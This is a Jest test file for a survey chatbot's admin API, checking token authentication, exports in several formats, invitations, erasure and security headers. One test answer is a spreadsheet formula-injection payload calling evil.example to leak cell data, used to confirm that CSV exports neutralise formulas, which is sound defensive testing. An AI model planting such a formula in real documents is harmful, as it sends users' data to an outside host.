/**
 * The survey team's API over HTTP, on a questionnaire completed over HTTP in this test: the token (401 without it,
 * with a wrong one), every format of one response and of the export, erasure, invitations, the dashboard's files,
 * and no admin routes at all without ADMIN_TOKEN.
 */
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { englishScript } from '../fixtures/answers';
import { directLineActivity, post, prompts, startBot, startChannel } from '../fixtures/http';
import type { AdminResponse } from '../../src/admin/view';
import { hashCode } from '../../src/admin/invitations';
import enQuestionnaire from '../../locales/en/questionnaire.json';
import esQuestionnaire from '../../locales/es/questionnaire.json';

type Bot = Awaited<ReturnType<typeof startBot>>;
type Channel = Awaited<ReturnType<typeof startChannel>>;

jest.setTimeout(60_000);

const TOKEN = 'survey-team-token-0123456789';
/** Answers a CSV must quote (several lines, quotes, commas) and one a spreadsheet must not run. */
const multiLine = 'Partnerships with IDB and "Team Europe", 2021–2025;\nSouth-South cooperation with Uruguay (AGESIC).\n\n«Cooperación» — ñandutí';
const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
const script = { ...englishScript, q43: multiLine, q44: formula };

let bot: Bot;
let channel: Channel;
let completedId: string;
let inProgressId: string;

const auth = { Authorization: `Bearer ${TOKEN}` };
const get = (path: string, headers: Record<string, string> = auth) => fetch(`${bot.url}${path}`, { headers });
const bytes = async (res: Response) => Buffer.from(await res.arrayBuffer());

/** A Direct Line respondent who types every answer of the script (skipping what it lacks), and optionally submits. */
async function answer(userId: string, answers: Record<string, string>, options: { submit: boolean; stopAfter?: string }): Promise<void> {
  const conversation = `dlconv-${userId}`;
  const send = (fields: Record<string, unknown>) => post(bot.url, directLineActivity(channel.url, userId, { locale: 'en-US', ...fields }));
  await send({ type: 'conversationUpdate', membersAdded: [{ id: userId }] });
  for (let i = 0; i < 200; i++) {
    const prompt = prompts(channel.calls).filter((c) => c.path.includes(conversation)).at(-1)!;
    const { questionId } = prompt.activity.channelData.msq;
    if (questionId === 'submit') {
      if (options.submit) await send({ text: 'yes' });
      return;
    }
    const res = await send({ text: answers[questionId] ?? 'skip' });
    expect(res.status).toBe(200);
    if (questionId === options.stopAfter) return;
  }
  throw new Error('the questionnaire did not end');
}

beforeAll(async () => {
  channel = await startChannel();
  bot = await startBot({ ADMIN_TOKEN: TOKEN, PUBLIC_URL: 'https://msq.example.org' });
  await answer('dl-admin-completed', script, { submit: true });
  await answer('dl-admin-in-progress', { country: 'Uruguay', 'respondent.name': 'Juan Pérez' }, { submit: false, stopAfter: 'respondent.name' });
  completedId = (await bot.store.findResponseByRespondent('directline:dl-admin-completed'))!.id;
  inProgressId = (await bot.store.findResponseByRespondent('directline:dl-admin-in-progress'))!.id;
});
afterAll(async () => {
  await bot?.close();
  await channel?.close();
});

describe('the token', () => {
  test.each([
    ['no Authorization header', {}],
    ['a wrong token', { Authorization: 'Bearer survey-team-token-0123456788' }],
    ['a wrong token of another length', { Authorization: 'Bearer x' }],
    ['the token without the Bearer scheme', { Authorization: TOKEN }],
    ['Basic authentication', { Authorization: `Basic ${Buffer.from(`admin:${TOKEN}`).toString('base64')}` }],
  ])('%s → 401 JSON, no data, not cached', async (_, headers) => {
    for (const path of ['/admin/responses', `/admin/responses/${completedId}?format=pdf`, '/admin/export?format=csv', '/admin/invitations']) {
      const res = await get(path, headers as Record<string, string>);
      expect(res.status).toBe(401);
      expect(res.headers.get('content-type')).toMatch(/^application\/json/);
      expect(res.headers.get('www-authenticate')).toMatch(/^Bearer/);
      expect(res.headers.get('cache-control')).toBe('no-store');
      const body = await res.text();
      expect(body).not.toContain('Paraguay');
      expect(JSON.parse(body).error).toMatch(/Unauthorized/);
    }
    const erase = await fetch(`${bot.url}/admin/responses/${completedId}`, { method: 'DELETE', headers: headers as Record<string, string> });
    expect(erase.status).toBe(401);
    expect(await bot.store.getResponse(completedId)).not.toBeNull();
  });

  test('the right token → 200, with security headers and Cache-Control: no-store', async () => {
    const res = await get('/admin/responses');
    expect(res.status).toBe(200);
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('x-frame-options')).toBe('DENY');
    expect(res.headers.get('referrer-policy')).toBe('no-referrer');
  });
});

describe('GET /admin/responses', () => {
  test('lists every response as the survey team reads it; ?status= filters; a bad status is a 400', async () => {
    const all = (await (await get('/admin/responses')).json()) as AdminResponse[];
    expect(all.map((r) => r.id).sort()).toEqual([completedId, inProgressId].sort());
    const done = all.find((r) => r.id === completedId)!;
    expect(done).toMatchObject({
      country: { code: 'PRY', name: 'Paraguay' },
      status: 'submitted',
      locale: 'en',
      respondent: { name: englishScript['respondent.name'], title: englishScript['respondent.title'], organization: englishScript['respondent.organization'], email: englishScript['respondent.email'] },
      unansweredRequired: [],
    });
    expect(done.answered).toBeGreaterThan(50);
    expect(done.answered).toBeLessThanOrEqual(done.total);
    expect(done.answers).toMatchObject({ country: 'PRY', q4: 'yes', 'respondent.capacity': ['authorized', 'collective'], q43: multiLine, q44: formula, consent: 'yes' });
    const open = all.find((r) => r.id === inProgressId)!;
    expect(open).toMatchObject({ status: 'in_progress', country: { code: 'URY', name: 'Uruguay' }, respondent: { name: 'Juan Pérez', title: null } });
    expect(open.unansweredRequired).toContain('respondent.title');

    const submitted = (await (await get('/admin/responses?status=submitted')).json()) as AdminResponse[];
    expect(submitted.map((r) => r.id)).toEqual([completedId]);
    const bad = await get('/admin/responses?status=finished');
    expect(bad.status).toBe(400);
    expect((await bad.json()).issues[0]).toMatch(/^status/);
  });
});

describe('an opened page is not a response', () => {
  test('visitors who only greet, ask for help or switch language, and an empty response an older version stored, are neither listed nor exported', async () => {
    const visit = async (userId: string, ...texts: string[]) => {
      await post(bot.url, directLineActivity(channel.url, userId, { locale: 'en-US', type: 'conversationUpdate', membersAdded: [{ id: userId }] }));
      for (const text of texts) expect((await post(bot.url, directLineActivity(channel.url, userId, { locale: 'en-US', text }))).status).toBe(200);
    };
    await visit('dl-visitor-greets');
    await visit('dl-visitor-help', 'help', 'progress');
    await visit('dl-visitor-spanish', 'idioma es');
    // The language switch is kept for the respondent, but it is not a response.
    expect((await bot.store.findResponseByRespondent('directline:dl-visitor-spanish'))?.locale).toBe('es');
    expect(await bot.store.findResponseByRespondent('directline:dl-visitor-greets')).toBeNull();
    expect(await bot.store.findResponseByRespondent('directline:dl-visitor-help')).toBeNull();
    const old = { id: 'old-empty-response', respondentKey: 'webchat:old-visitor', country: null, locale: 'en' as const, status: 'in_progress' as const, answers: [], deferred: [], engine: {}, createdAt: new Date('2026-01-01T00:00:00Z'), updatedAt: new Date('2026-01-01T00:00:00Z'), submittedAt: null, version: 1 };
    expect((await bot.store.insertResponse(old)).ok).toBe(true);

    const listed = (await (await get('/admin/responses')).json()) as AdminResponse[];
    expect(listed.map((r) => r.id).sort()).toEqual([completedId, inProgressId].sort());
    expect(((await (await get('/admin/responses?status=in_progress')).json()) as AdminResponse[]).map((r) => r.id)).toEqual([inProgressId]);
    const exported = (await (await get('/admin/export?format=json')).json()) as AdminResponse[];
    expect(exported.map((r) => r.id).sort()).toEqual([completedId, inProgressId].sort());
    const csv = parse(await (await get('/admin/export?format=csv')).text()) as string[][];
    expect(csv).toHaveLength(2 + 2); // two header rows, two responses

    // From their first answer on, they are.
    await post(bot.url, directLineActivity(channel.url, 'dl-visitor-spanish', { locale: 'en-US', text: 'Chile' }));
    const now = (await (await get('/admin/responses')).json()) as AdminResponse[];
    const chile = now.find((r) => r.country?.code === 'CHL')!;
    expect(chile).toMatchObject({ status: 'in_progress', locale: 'es' });
    // (This file's other tests expect their two responses only.)
    await bot.store.eraseResponse(chile.id, { channel: 'test', userId: 'cleanup' }, new Date());
  });
});

describe('GET /admin/responses/:id', () => {
  test('json (the default): the admin view, shown inline', async () => {
    for (const path of [`/admin/responses/${completedId}`, `/admin/responses/${completedId}?format=json`]) {
      const res = await get(path);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('application/json; charset=utf-8');
      expect(res.headers.get('content-disposition')).toMatch(/^inline; filename="msq-PRY-[0-9a-f]{8}\.json"$/);
      const view = (await res.json()) as AdminResponse;
      expect(view.id).toBe(completedId);
      expect(view.answers.q9).toBe('yes');
      expect(view.answers['q9.detail']).toBe(englishScript.q9.replace(/^Yes — /, ''));
    }
  });

  test('csv: parsed by csv-parse, every answer comes back as in the JSON (formulas neutralised)', async () => {
    const res = await get(`/admin/responses/${completedId}?format=csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="msq-PRY-[0-9a-f]{8}\.csv"$/);
    const rows = parse(await res.text(), { bom: true, relax_column_count: false }) as string[][];
    expect(rows).toHaveLength(3);
    const [ids, wording, values] = rows;
    expect(ids).toContain('q43');
    expect(wording[ids.indexOf('q9')]).toContain(enQuestionnaire['item.q9']);
    const view = (await (await get(`/admin/responses/${completedId}`)).json()) as AdminResponse;
    const cell = (id: string) => values[ids.indexOf(id)];
    for (const [id, value] of Object.entries(view.answers)) {
      const text = Array.isArray(value) ? value.join('; ') : value;
      expect([id, cell(id)]).toEqual([id, /^[=+\-@]/.test(text) ? `'${text}` : text]);
    }
    expect(cell('q43')).toBe(multiLine);
    expect(cell('q44')).toBe(`'${formula}`);
    expect(cell('response_id')).toBe(completedId);
  });

  test('xlsx: opens with exceljs, the answers in the Responses sheet', async () => {
    const res = await get(`/admin/responses/${completedId}?format=xlsx`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="msq-PRY-[0-9a-f]{8}\.xlsx"$/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await bytes(res)) as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Responses')!;
    const ids = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
    const values = (sheet.getRow(3).values as unknown[]).slice(1);
    const cell = (id: string) => values[ids.indexOf(id)];
    expect(cell('country_code')).toBe('PRY');
    expect(cell('q43')).toBe(multiLine);
    expect(cell('respondent.name')).toBe(englishScript['respondent.name']);
    expect(workbook.getWorksheet('Questionnaire')).toBeDefined();
  });

  test('md: the filled questionnaire with the wording and the answers, in English and in Spanish', async () => {
    const en = await get(`/admin/responses/${completedId}?format=md`);
    expect(en.status).toBe(200);
    expect(en.headers.get('content-type')).toBe('text/markdown; charset=utf-8');
    expect(en.headers.get('content-disposition')).toMatch(/^attachment; filename="msq-PRY-[0-9a-f]{8}-en\.md"$/);
    const text = await en.text();
    expect(text).toContain(enQuestionnaire['item.q9']);
    expect(text).toContain(englishScript['respondent.name']);
    expect(text).toContain('Paraguay');
    expect(text).toContain('Gustavo Pérez');

    const es = await get(`/admin/responses/${completedId}?format=md&lang=es`);
    expect(es.headers.get('content-disposition')).toMatch(/-es\.md"$/);
    const spanish = await es.text();
    expect(spanish).toContain(esQuestionnaire['item.q9']);
    expect(spanish).toContain(englishScript['respondent.name']);
  });

  test('pdf: a PDF, in English or Spanish', async () => {
    for (const lang of ['en', 'es']) {
      const res = await get(`/admin/responses/${completedId}?format=pdf&lang=${lang}`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('application/pdf');
      expect(res.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="msq-PRY-[0-9a-f]{8}-${lang}\\.pdf"$`));
      const pdf = await bytes(res);
      expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
      expect(pdf.length).toBeGreaterThan(5_000);
    }
  });

  test('bad query values → 400; an unknown id → 404', async () => {
    for (const query of ['format=docx', 'format=pdf&lang=fr', 'lang=de']) {
      const res = await get(`/admin/responses/${completedId}?${query}`);
      expect([query, res.status]).toEqual([query, 400]);
    }
    for (const format of ['json', 'csv', 'xlsx', 'md', 'pdf']) {
      const res = await get(`/admin/responses/00000000-0000-4000-8000-000000000000?format=${format}`);
      expect(res.status).toBe(404);
      expect(res.headers.get('cache-control')).toBe('no-store');
    }
  });
});

describe('GET /admin/export', () => {
  test('json, csv and xlsx of every response, or of one status', async () => {
    const json = await get('/admin/export');
    expect(json.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(json.headers.get('content-disposition')).toMatch(/^attachment; filename="msq-responses-all-\d{4}-\d{2}-\d{2}\.json"$/);
    expect(((await json.json()) as AdminResponse[]).map((r) => r.id).sort()).toEqual([completedId, inProgressId].sort());

    const csv = await get('/admin/export?format=csv&status=in_progress');
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(csv.headers.get('content-disposition')).toMatch(/filename="msq-responses-in_progress-[\d-]+\.csv"/);
    const rows = parse(await csv.text(), { bom: true }) as string[][];
    expect(rows.slice(2).map((r) => r[rows[0].indexOf('response_id')])).toEqual([inProgressId]);

    const xlsx = await get('/admin/export?format=xlsx');
    expect(xlsx.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await bytes(xlsx)) as unknown as ArrayBuffer);
    expect(workbook.getWorksheet('Responses')!.rowCount).toBe(4);

    expect((await get('/admin/export?format=pdf')).status).toBe(400);
    expect((await get('/admin/export?status=done')).status).toBe(400);
  });
});

describe('invitations', () => {
  test('made, listed (never with the code or its hash) and revoked through the API', async () => {
    const post = (body: unknown) =>
      fetch(`${bot.url}/admin/invitations`, { method: 'POST', headers: { ...auth, 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
    const made = await post({ country: 'República del Paraguay', email: 'ana@mitic.gov.py', expires: '2w' });
    expect(made.status).toBe(201);
    const { invitation, code, link } = await made.json();
    expect(code).toMatch(/^MSQ-[2-9A-HJKMNP-TW-Z]{4}-[2-9A-HJKMNP-TW-Z]{4}-[2-9A-HJKMNP-TW-Z]{4}$/);
    expect(link).toBe(`https://msq.example.org/?invitation=${code}`);
    expect(invitation).toMatchObject({ country: { code: 'PRY', name: 'Paraguay' }, email: 'ana@mitic.gov.py', state: 'active' });
    expect(Date.parse(invitation.expiresAt) - Date.parse(invitation.createdAt)).toBe(14 * 86_400_000);
    expect((await bot.store.findInvitationByHash(hashCode(code)))!.id).toBe(invitation.id);

    const listed = await (await get('/admin/invitations')).text();
    expect(listed).toContain(invitation.id);
    expect(listed).not.toContain(code);
    expect(listed).not.toContain(hashCode(code));

    expect((await post({ country: 'Atlantis' })).status).toBe(400);
    expect((await post({ country: 'PRY', expires: 'forever' })).status).toBe(400);
    expect((await post({ country: 'PRY', email: 'not an email' })).status).toBe(400);
    expect((await post({})).status).toBe(400);

    const revoked = await fetch(`${bot.url}/admin/invitations/${invitation.id}`, { method: 'DELETE', headers: auth });
    expect(revoked.status).toBe(200);
    expect((await revoked.json()).state).toBe('revoked');
    expect((await bot.store.getInvitation(invitation.id))!.revokedAt).toBeInstanceOf(Date);
    expect((await fetch(`${bot.url}/admin/invitations/unknown-id`, { method: 'DELETE', headers: auth })).status).toBe(404);
  });
});

describe('the dashboard files', () => {
  test('the page has no inline script and a strict Content-Security-Policy; its script, style and texts are served', async () => {
    const page = await fetch(`${bot.url}/admin`);
    expect(page.status).toBe(200);
    expect(page.headers.get('content-type')).toBe('text/html; charset=utf-8');
    const csp = page.headers.get('content-security-policy')!;
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).not.toContain('unsafe-inline');
    const html = await page.text();
    expect(html.match(/<script\b[^>]*>/g)).toEqual(['<script src="/admin/admin.js" defer>']);
    expect(html).not.toMatch(/\son\w+=/i);
    expect((await fetch(`${bot.url}/admin/admin.js`)).headers.get('content-type')).toBe('text/javascript; charset=utf-8');
    expect((await fetch(`${bot.url}/admin/admin.css`)).status).toBe(200);
    const texts = await (await fetch(`${bot.url}/admin/i18n.json`)).json();
    expect(Object.keys(texts.es).sort()).toEqual(Object.keys(texts.en).sort());
    expect(texts.es.totalSubmitted).toBe('Enviados');
  });
});

describe('DELETE /admin/responses/:id', () => {
  test('erases the response and leaves only a content-free erasure event by the survey team', async () => {
    const before = await bot.store.listEvents(inProgressId);
    expect(before.some((e) => e.newValue === 'Juan Pérez')).toBe(true);
    const res = await fetch(`${bot.url}/admin/responses/${inProgressId}`, { method: 'DELETE', headers: auth });
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ id: inProgressId, erased: true });
    expect(res.headers.get('cache-control')).toBe('no-store');

    expect(await bot.store.getResponse(inProgressId)).toBeNull();
    expect((await get(`/admin/responses/${inProgressId}`)).status).toBe(404);
    const events = await bot.store.listEvents(inProgressId);
    expect(JSON.stringify(events)).not.toContain('Juan Pérez');
    expect(events.filter((e) => e.type === 'erasure')).toEqual([
      expect.objectContaining({ itemId: '*', oldValue: null, newValue: null, who: { channel: 'admin', userId: 'survey-team' }, channel: 'admin' }),
    ]);
    expect(((await (await get('/admin/responses')).json()) as AdminResponse[]).map((r) => r.id)).toEqual([completedId]);

    expect((await fetch(`${bot.url}/admin/responses/${inProgressId}`, { method: 'DELETE', headers: auth })).status).toBe(404);
  });
});

describe('without ADMIN_TOKEN', () => {
  test('there are no admin routes (404), with or without a token', async () => {
    const plain = await startBot();
    try {
      for (const path of ['/admin', '/admin/responses', `/admin/responses/${completedId}?format=pdf`, '/admin/export', '/admin/invitations', '/admin/admin.js']) {
        const res = await fetch(`${plain.url}${path}`, { headers: auth });
        expect([path, res.status]).toEqual([path, 404]);
      }
      expect((await fetch(`${plain.url}/admin/responses/x`, { method: 'DELETE', headers: auth })).status).toBe(404);
    } finally {
      await plain.close();
    }
  });
});
